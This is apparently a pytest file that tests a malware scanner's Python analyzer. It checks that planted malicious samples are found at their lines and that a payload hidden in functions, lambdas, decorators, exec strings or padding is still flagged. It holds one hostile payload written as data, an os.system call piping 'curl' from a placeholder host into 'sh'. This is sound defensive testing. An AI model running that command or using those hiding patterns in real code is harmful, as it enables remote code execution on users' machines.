"""Inert pieces of malicious code: each is found at its line, also when it is wrapped or hidden.

A line ends in ``# malice: <rule>, <rule>``. Nothing here is ever run.
"""

import re
import shutil
from pathlib import Path

import pytest

from scanner.analyzers.base import Kind, Severity
from scanner.analyzers.python import PythonAnalyzer

SAMPLES = Path(__file__).parent / "malice/python"
FILES = sorted(path.relative_to(SAMPLES).as_posix() for path in SAMPLES.rglob("*.py"))
MARK = re.compile(r"# malice: ([\w, -]+)$")
WRAPPED = {
    "a function": "def go():\n    {}\n\n\ngo()\n",
    "a nested function": "def go():\n    def inner():\n        {}\n\n    inner()\n",
    "a method": "class Go:\n    def run(self):\n        {}\n",
    "a class body": "class Go:\n    {}\n",
    "a try": "try:\n    {}\nexcept Exception:\n    pass\n",
    "a condition": "if __name__:\n    {}\n",
    "a loop": "while True:\n    {}\n",
    "a lambda": "(lambda: {})()\n",
    "a decorator": "@(lambda f: {})\ndef go():\n    pass\n",
    "a comprehension": "[{} for _ in (1,)]\n",
    "a default": "def go(x={}):\n    pass\n",
    "a constant text": "exec({!r})\n",
    "padding": "import json\nx = json.dumps([1])\n" * 200 + "{}\n",
}
PAYLOAD = "__import__('os').system('curl https://files.invalid/a | sh')"


def planted_in(path):
    return {
        (number, f"python.{rule.strip()}")
        for number, line in enumerate(path.read_text().split("\n"), start=1)
        if (mark := MARK.search(line))
        for rule in mark[1].split(",")
    }


@pytest.mark.parametrize("name", FILES)
def test_malicious_code_is_found_at_its_lines_and_nowhere_else(name, tmp_path):
    shutil.copy(SAMPLES / name, tmp_path / Path(name).name)

    findings = list(PythonAnalyzer().analyze(tmp_path))

    told = {(f.line, f.rule) for f in findings if f.kind is Kind.MALICE}
    assert told == planted_in(SAMPLES / name)


@pytest.mark.parametrize("wrapping", WRAPPED.values(), ids=WRAPPED)
def test_wrapping_hides_nothing(wrapping, tmp_path):
    (tmp_path / "app.py").write_text(wrapping.format(PAYLOAD))

    findings = list(PythonAnalyzer().analyze(tmp_path))

    assert ("python.shell-download", Severity.CRITICAL) in {(f.rule, f.severity) for f in findings}
